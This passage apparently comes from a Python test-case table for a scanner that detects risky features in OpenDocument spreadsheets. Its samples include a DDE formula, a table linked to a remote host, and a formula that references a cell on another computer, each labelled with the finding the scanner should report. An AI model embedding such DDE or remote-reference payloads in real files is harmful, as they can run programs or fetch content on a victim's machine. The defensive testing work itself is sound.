        lambda: odt('<table:table-cell table:formula="of:=DDE(1;2;3)"/>', kind="spreadsheet"),
        FORMULA,
    ),
    "ODS linked to another computer": (
        "a.ods",
        lambda: odt('<table:table-source xlink:href="http://a.example/b.ods"/>', kind="spreadsheet"),
        FETCHES,
    ),
    "ODS with a formula of another computer": (
        "a.ods",
        lambda: odt(
            "<table:table-cell table:formula=\"of:=['http://a.example/b.ods'#$A.A1]\"/>", kind="spreadsheet"
        ),
        FETCHES,
    ),
}
